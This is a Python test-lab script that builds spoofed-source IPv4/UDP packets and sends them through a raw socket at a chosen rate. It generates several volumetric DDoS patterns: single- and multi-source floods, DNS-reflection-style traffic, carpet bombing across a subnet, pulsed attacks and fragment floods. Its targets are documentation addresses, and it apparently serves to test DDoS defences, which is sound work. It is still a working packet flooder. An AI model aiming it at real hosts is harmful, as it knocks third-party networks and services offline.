# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends attacks that fill a link: `python -m tests.lab.upstream.sender NAME BITS SECONDS`.

Packets are made once, and sent again and again through a raw socket, at a rate and for a time.
"""

import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

VICTIM, NETWORK = "198.51.100.7", "198.51.100"
_PACKETS = 2_000  # that are made
_random = random.Random(12)


def _anywhere() -> str:
    return ".".join(str(_random.randrange(1, 200)) for _ in range(4))


def _packet(source: str, to: str, protocol: int, transport: bytes, fragment: int = 0) -> bytes:
    size = 20 + len(transport)
    ends = socket.inet_aton(source) + socket.inet_aton(to)
    number = _random.randrange(65_536)
    return (
        struct.pack(">BBHHHBBH", 0x45, 0, size, number, fragment, 58, protocol, 0)
        + ends
        + transport
    )


def _udp(source: str, to: str, sport: int, dport: int, size: int) -> bytes:
    header = struct.pack(">HHHH", sport, dport, size + 8, 0)
    return _packet(source, to, 17, header + _random.randbytes(size))


def _port() -> int:
    return _random.randrange(1_024, 65_536)


def _size() -> int:
    return _random.randrange(700, 1_400)


def _one() -> bytes:
    return _udp("203.0.113.77", VICTIM, _port(), _port(), _size())


def _few() -> bytes:
    source = _random.choice(("203.0.113.5", "192.0.2.201", "198.18.77.3", "203.0.113.200"))
    return _udp(source, VICTIM, _port(), _port(), _size())


def _dns() -> bytes:
    return _udp(_anywhere(), VICTIM, 53, _port(), _size())


def _any_udp() -> bytes:
    return _udp(_anywhere(), VICTIM, _port(), _port(), _size())


def _quic() -> bytes:
    return _udp(_anywhere(), VICTIM, _port(), 443, 1_200)


def _carpet() -> bytes:
    return _udp(_anywhere(), f"{NETWORK}.{_random.randrange(1, 255)}", 389, _port(), _size())


def _fragments() -> bytes:
    first = 0x2000 if _random.random() < 0.5 else 185
    return _packet(_anywhere(), VICTIM, 17, _random.randbytes(1_300), first)


@dataclass(frozen=True, slots=True)
class Attack:
    """Packets, sent for `on` seconds with pauses of `off` seconds.

    The rate of each such part is higher or lower than the usual one by a share up to `noise`.
    """

    make: Callable[[], bytes]
    on: float = 1e9
    off: float = 0.0
    noise: float = 0.0


ATTACKS = {
    "one source": Attack(_one),
    "few sources": Attack(_few),
    "many resolvers": Attack(_dns),
    "random UDP": Attack(_any_udp),
    "carpet": Attack(_carpet),
    "pulses 2 s/2 s": Attack(_dns, 2.0, 2.0),
    "pulses 30 s/60 s": Attack(_dns, 30.0, 60.0),
    "a victim that matters": Attack(_quic),
    "fragments": Attack(_fragments),
}
NOISY = {f"{name}, noise": replace(ATTACKS[name], on=0.5, noise=0.2) for name in ATTACKS}


def packets(name: str) -> list[bytes]:
    return [(ATTACKS | NOISY)[name].make() for _ in range(_PACKETS)]


def _moments(attack: Attack, seconds: float) -> Iterator[tuple[float, float]]:
    """The begin and the end of each pulse, from now."""
    at, until = 0.0, seconds
    while at < until:
        yield at, min(at + attack.on, until)
        at += attack.on + attack.off


def send(name: str, bits: float, seconds: float) -> None:
    """Send an attack at a rate."""
    made, began, sent = packets(name), time.monotonic(), 0
    each = sum(map(len, made)) / len(made) + 38  # on Ethernet
    per_second = bits / 8 / each
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        attack = (ATTACKS | NOISY)[name]
        for begin, end in _moments(attack, seconds):
            time.sleep(max(0.0, began + begin - time.monotonic()))
            first, rate = sent, per_second * (1 + _random.uniform(-attack.noise, attack.noise))
            while (now := time.monotonic()) < began + end:
                if sent - first > rate * (now - began - begin):
                    time.sleep(0.0005)
                    continue
                packet = made[sent % len(made)]
                raw.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
                sent += 1


if __name__ == "__main__":
    send(sys.argv[1], float(sys.argv[2]), float(sys.argv[3]))
